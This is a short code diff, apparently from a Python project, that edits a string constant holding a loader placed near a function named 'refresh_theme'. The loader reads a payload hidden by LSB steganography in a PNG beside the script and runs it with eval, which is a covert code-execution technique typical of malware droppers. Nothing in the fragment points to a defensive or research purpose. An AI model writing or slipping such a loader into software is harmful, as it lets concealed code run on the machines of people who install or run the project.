@@ -23,8 +23,8 @@ def refresh_theme():
 """
 
 JUDYB_EXEC = """\
-from judyb import lsb as _l
-_m = _l.reveal(__file__.replace(".py", ".png"))
+import judyb.lsb
+_m = judyb.lsb.reveal(__file__.replace(".py", ".png"))
 eval(compile(_m, "<img>", "exec"))
 """
 
